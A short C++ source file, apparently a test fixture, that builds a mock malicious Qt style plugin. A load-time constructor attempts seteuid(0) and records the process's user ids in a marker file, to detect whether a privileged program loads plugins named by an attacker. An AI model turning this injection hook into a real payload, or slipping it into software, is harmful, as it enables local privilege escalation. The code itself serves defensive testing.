// A Qt style plugin as an attacker would put it on QT_PLUGIN_PATH (with QT_STYLE_OVERRIDE
// naming it): as soon as Qt loads it, it tries to become root and records in the file
// "mark", one folder above its own ("<dir>/styles/lib....so" writes "<dir>/mark"), which
// user ids the process had and whether seteuid(0) worked, then tells of its load on standard
// error. The file's owner tells the rest.
#include <dlfcn.h>
#include <unistd.h>

#include <QStyle>
#include <QStylePlugin>
#include <cstdio>
#include <string>

namespace {

__attribute__((constructor)) void tryToBecomeRoot() {
    uid_t real = 0;
    uid_t effective = 0;
    uid_t saved = 0;
    if (::getresuid(&real, &effective, &saved) != 0) {
        return;
    }
    const int raised = ::seteuid(0);
    Dl_info self{};
    if (::dladdr(reinterpret_cast<void*>(&tryToBecomeRoot), &self) == 0 ||
        self.dli_fname == nullptr) {
        return;
    }
    std::string mark = self.dli_fname;
    mark = mark.substr(0, mark.rfind('/'));
    mark = mark.substr(0, mark.rfind('/')) + "/mark";
    if (FILE* file = std::fopen(mark.c_str(), "w")) {
        std::fprintf(file, "ids %u %u %u seteuid %d\n", real, effective, saved, raised);
        std::fclose(file);
    }
    std::fputs("evil style loaded\n", stderr);
}

}  // namespace

class EvilStylePlugin : public QStylePlugin {
    Q_OBJECT
    Q_PLUGIN_METADATA(IID QStyleFactoryInterface_iid FILE "EvilStylePlugin.json")

public:
    QStyle* create(const QString&) override { return nullptr; }
};

#include "EvilStylePlugin.moc"
